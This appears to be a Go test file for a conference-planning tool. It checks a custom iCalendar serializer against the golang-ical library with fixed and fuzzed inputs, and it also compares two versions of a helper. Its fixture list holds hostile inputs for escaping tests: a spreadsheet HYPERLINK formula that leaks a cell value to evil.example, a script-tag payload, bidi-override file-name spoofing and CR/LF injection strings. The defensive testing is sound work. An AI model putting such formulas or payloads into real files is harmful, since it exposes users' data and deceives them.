package export

import (
	"bytes"
	"reflect"
	"strings"
	"testing"
	"time"

	ics "github.com/arran4/golang-ical"

	"github.com/confplan/confplan/internal/synth"
	"github.com/confplan/confplan/planner"
)

// sameSerial fails unless serialize writes cal as golang-ical's own
// serializer does (serializeLibrary), byte for byte.
func sameSerial(t *testing.T, what string, cal *ics.Calendar) {
	t.Helper()
	var got, want bytes.Buffer
	if err := serialize(&got, cal); err != nil {
		t.Fatal(err)
	}
	if err := serializeLibrary(&want, cal); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got.Bytes(), want.Bytes()) {
		g, w := got.String(), want.String()
		i := 0
		for i < len(g) && i < len(w) && g[i] == w[i] {
			i++
		}
		t.Fatalf("%s: serialize differs from golang-ical at byte %d:\n%q\nwant\n%q", what, i, g[max(0, i-80):min(len(g), i+80)], w[max(0, i-80):min(len(w), i+80)])
	}
}

// TestSerializeDiff compares serialize with golang-ical's serializer on
// the calendars of a planned synthetic meeting (events, alarms, tasks,
// cancellations), on hostile text, and on properties with parameters and
// components confplan does not write, which go to the library.
func TestSerializeDiff(t *testing.T) {
	d := synth.Meeting(synth.Scale(1))
	matches := planner.NewMatcher(d.Targets, planner.MatchOptions{}).Match(d.Meeting.Items)
	p, err := planner.MakePlan(d.Meeting, d.Targets, matches, planner.PlanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	opt := CalendarOptions{Name: "plan", Meeting: d.Meeting.Name, Zone: d.Meeting.Zone, Alarm: 10 * time.Minute}
	sameSerial(t, "itinerary", icalCalendar(p, p.FollowUps, opt))
	sameSerial(t, "tasks", todoCalendar(p.FollowUps, opt))
	var prior bytes.Buffer
	if err := WriteICal(&prior, p, p.FollowUps, opt); err != nil {
		t.Fatal(err)
	}
	pr, err := ReadPrior(&prior)
	if err != nil {
		t.Fatal(err)
	}
	opt.Prior, opt.Cancel = pr, true
	sameSerial(t, "re-plan with nothing", icalCalendar(&planner.Plan{}, nil, opt))

	fs := rawFollowUps()
	hopt := CalendarOptions{Zone: time.UTC, Name: rawTexts[6], Alarm: time.Minute}
	sameSerial(t, "hostile follow-ups", icalCalendar(nil, fs, hopt))
	sameSerial(t, "hostile tasks", todoCalendar(fs, hopt))

	cal := newCalendar(hopt)
	for _, h := range rawTexts {
		e := ics.NewEvent(h)
		e.SetSummary(h + "\r\n;,\\")
		e.SetURL("http://x.example/\r\n" + h)
		e.AddProperty(ics.ComponentPropertyLocation, h, ics.WithCN(h), ics.WithRSVP(true))
		e.AddProperty("X-RAW", "a\nb\r\nc")
		e.AddProperty(ics.ComponentPropertyCategories, `a\,b,c;d`)
		cal.AddVEvent(e)
	}
	cal.AddVJournal(ics.NewJournal("j1"))
	sameSerial(t, "parameters and journals", cal)
}

func FuzzSerializeDiff(f *testing.F) {
	for _, h := range rawTexts {
		f.Add(h, "X-"+h)
	}
	f.Fuzz(func(t *testing.T, value, token string) {
		cal := ics.NewCalendarFor("confplan")
		e := ics.NewEvent(value)
		e.SetSummary(value)
		e.SetDescription(value)
		e.SetURL(value)
		e.AddProperty(ics.ComponentProperty(token), value)
		e.AddProperty(ics.ComponentPropertyCategories, value)
		a := e.AddAlarm()
		a.SetTrigger(value)
		cal.AddVEvent(e)
		sameSerial(t, "fuzz", cal)
	})
}

// rawTexts are texts a careless program file might carry (as
// hostile_test.go's): formulas, markup, control and bidi characters.
var rawTexts = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, "\t=1", "\r=1", "a\r\nb\nc\\d;e,f",
	`<script>alert(1)</script> Oral Cavity`, "# Heading\n- list\n1. one",
	"Evil\u202etxt.exe\u202c \u2066isolate\u2069 \x1b[31mred\x1b[0m", "Zoë Fernández 日本語 " + string(rune(0x85)),
}

func rawFollowUps() []planner.FollowUp {
	at := time.Date(2025, 9, 28, 14, 0, 0, 0, time.UTC)
	var out []planner.FollowUp
	for _, h := range rawTexts {
		f := planner.FirstFollowUp(planner.Encounter{Name: "Jane Doe " + h, Institution: h, Where: h, Room: h, Notes: h, Role: h, At: at, ItemID: h})
		f.Subject, f.Body = "Re: "+h, "Dear Dr. Doe,\n\n"+h+"\n\n"+h
		f.Mailto = planner.Mailto("jdoe@emory.example", f.Subject, f.Body)
		out = append(out, f)
	}
	return out
}

// oldQuotedItems is quotedItems before it looked up only the points'
// items; TestQuotedItemsDiff compares the two.
func oldQuotedItems(s *planner.Stop, n int) map[string]bool {
	titles := make(map[string]string, len(s.Items))
	for i := range s.Items {
		titles[s.Items[i].ID] = "“" + oneLine(s.Items[i].Title) + "”"
	}
	out := make(map[string]bool)
	for i := range s.Points[:min(n, len(s.Points))] {
		p := &s.Points[i]
		if t, ok := titles[p.ItemID]; ok && strings.Contains(p.Say, t) {
			out[p.ItemID] = true
		}
	}
	return out
}

func TestQuotedItemsDiff(t *testing.T) {
	d := synth.Meeting(synth.Scale(1))
	matches := planner.NewMatcher(d.Targets, planner.MatchOptions{}).Match(d.Meeting.Items)
	p, err := planner.MakePlan(d.Meeting, d.Targets, matches, planner.PlanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	dup := planner.Stop{Items: []planner.Item{{ID: "a", Title: "One"}, {ID: "a", Title: "Two"}},
		Points: []planner.TalkingPoint{{ItemID: "a", Say: "ask about “Two”"}, {ItemID: "b", Say: "“”"}}}
	stops := []*planner.Stop{&dup}
	for _, d := range p.Days {
		for i := range d.Stops {
			stops = append(stops, &d.Stops[i])
		}
	}
	for _, s := range stops {
		for _, n := range []int{0, 1, fullPoints, 17, len(s.Points)} {
			if got, want := quotedItems(s, n), oldQuotedItems(s, n); !reflect.DeepEqual(got, want) {
				t.Fatalf("%s, %d points: quotedItems = %v, want %v", s.ID, n, got, want)
			}
		}
	}
}
